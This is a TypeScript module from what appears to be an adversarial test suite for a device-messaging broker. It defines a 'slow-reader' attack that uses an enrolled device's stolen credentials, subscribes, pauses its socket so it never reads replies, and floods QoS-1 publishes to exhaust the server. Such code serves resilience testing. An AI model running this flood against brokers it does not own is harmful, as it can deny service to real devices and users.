import { deviceFilter, deviceTopic } from '@ankang/protocol'
import type { Attack } from './attack.ts'
import { RawLine } from './raw-line.ts'

/** An enrolled box that asks for answers and reads none of them. */
export const slowReader: Attack = {
  name: 'slow-reader',
  zh: '只发不收',
  en: 'a box that never reads',
  run: async (target, signal) => {
    let tried = 0
    const birth = Buffer.from('{}')
    while (!signal.aborted) {
      const line = await RawLine.entered(target, signal)
      line.say({
        cmd: 'subscribe',
        messageId: 1,
        subscriptions: [{ topic: deviceFilter(target.stolen, 'receipts'), qos: 1 }],
      })
      await line.hear()
      line.socket.pause()
      const topic = deviceTopic(target.stolen, 'birth')
      const pump = (): void => {
        for (let burst = 0; burst < 100 && line.socket.writable; burst++) {
          tried++
          line.say({
            cmd: 'publish',
            topic,
            payload: birth,
            qos: 1,
            messageId: 1 + (tried % 60_000),
            retain: false,
            dup: false,
          })
        }
      }
      line.socket.on('drain', pump)
      pump()
      await line.ended
    }
    return { tried, succeeded: 0 }
  },
}
